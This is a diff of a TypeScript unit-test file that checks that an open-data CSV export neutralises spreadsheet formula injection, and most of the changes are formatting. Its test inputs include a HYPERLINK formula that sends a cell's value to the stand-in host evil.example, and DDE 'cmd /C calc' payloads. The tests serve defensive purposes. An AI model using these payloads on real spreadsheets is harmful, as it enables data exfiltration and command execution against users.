@@ -33,23 +33,27 @@ const record = (over: Partial<OpenDataRecord>): OpenDataRecord => ({
 });
 
 /** Cells of the first data row of a CSV text, as a spreadsheet import reads them. */
-const firstRow = (csv: string): Record<string, string> => (parse(csv.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[])[0]!;
+const firstRow = (csv: string): Record<string, string> =>
+  (parse(csv.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[])[0]!;
 
 describe('CSV formula neutralisation', () => {
   it.each([
     ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', `'=HYPERLINK("http://evil.example/?x="&A1,"Bấm")`],
     ['+84 277 385 1234', "'+84 277 385 1234"],
-    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
-    ['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
+    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
     ['\t=1+1', "'\t=1+1"],
     ['\r=1+1', "'\r=1+1"],
   ])('%j is written as %j', (text, expected) => {
     expect(neutraliseFormula(text)).toBe(expected);
   });
 
-  it.each(['Nguyễn Văn An', '45/QĐ-SKHĐT', "'đã có dấu nháy", ' =không phải công thức', '', 'Tổ 1 - Phòng A'])('%j is left as written', (text) => {
-    expect(neutraliseFormula(text)).toBe(text);
-  });
+  it.each(['Nguyễn Văn An', '45/QĐ-SKHĐT', "'đã có dấu nháy", ' =không phải công thức', '', 'Tổ 1 - Phòng A'])(
+    '%j is left as written',
+    (text) => {
+      expect(neutraliseFormula(text)).toBe(text);
+    },
+  );
 
   it('numbers and booleans are not text and stay as they are', () => {
     expect(toCsvText([[-5, true, null, '-5']])).toBe("\uFEFF-5,true,,'-5\r\n");
@@ -60,7 +64,13 @@ describe('CSV formula neutralisation', () => {
   });
 
   it('open data: the CSV neutralises every formula-like text field, the JSON keeps it as written', () => {
-    const hostile = record({ recipient: '=HYPERLINK("http://evil.example","Bấm")', position: '+Trưởng phòng', summary: '@cmd', contentTitles: ['-Nội dung 1', 'Nội dung 2'], unitName: '\tPhòng' });
+    const hostile = record({
+      recipient: '=HYPERLINK("http://evil.example","Bấm")',
+      position: '+Trưởng phòng',
+      summary: '@cmd',
+      contentTitles: ['-Nội dung 1', 'Nội dung 2'],
+      unitName: '\tPhòng',
+    });
     const row = firstRow(toCsv([hostile]));
     expect(row['recipient']).toBe(`'=HYPERLINK("http://evil.example","Bấm")`);
     expect(row['position']).toBe("'+Trưởng phòng");
@@ -68,7 +78,9 @@ describe('CSV formula neutralisation', () => {
     expect(row['contentTitles']).toBe("'-Nội dung 1; Nội dung 2");
     expect(row['unitName']).toBe("'\tPhòng");
     expect(row['year']).toBe('2023');
-    const json = JSON.parse(toJson([hostile], { title: 't', publisher: 'p', documentation: 'd' })) as { records: Record<string, unknown>[] };
+    const json = JSON.parse(toJson([hostile], { title: 't', publisher: 'p', documentation: 'd' })) as {
+      records: Record<string, unknown>[];
+    };
     expect(json.records[0]!['recipient']).toBe('=HYPERLINK("http://evil.example","Bấm")');
     expect(json.records[0]!['contentTitles']).toEqual(['-Nội dung 1', 'Nội dung 2']);
   });
